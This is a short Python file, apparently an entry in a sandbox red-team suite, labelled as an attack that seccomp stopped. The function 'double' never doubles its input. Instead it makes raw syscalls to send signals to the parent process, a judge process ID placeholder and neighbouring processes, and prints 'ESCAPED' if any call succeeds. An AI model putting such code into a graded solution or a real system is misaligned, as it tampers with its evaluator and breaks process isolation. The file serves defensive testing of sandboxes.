# attack: sends signals by the calls that Python has no function for
# stopped by: seccomp
# verdict: failed
# exercise: 01_double
# tier: seccomp
import ctypes
import os
import struct

TKILL, TGKILL, QUEUE, TGQUEUE, PIDFD_OPEN, PIDFD_SIGNAL = 200, 234, 129, 297, 434, 424  # of x86_64


def double(x):
    call = ctypes.CDLL(None, use_errno=True).syscall
    info = struct.pack("iiiiQQ", 15, 0, -1, 0, 0, 0) + bytes(96)
    for process in (os.getppid(), int("@JUDGE@"), os.getpid() + 1, os.getpid() - 1):
        for made in (
            call(TKILL, process, 0),
            call(TGKILL, process, process, 0),
            call(QUEUE, process, 0, info),
            call(TGQUEUE, process, process, 0, info),
            call(PIDFD_OPEN, process, 0),
            call(PIDFD_SIGNAL, 3, 0, 0, 0),
        ):
            if made >= 0:
                print("ESCAPED", process)
    return x
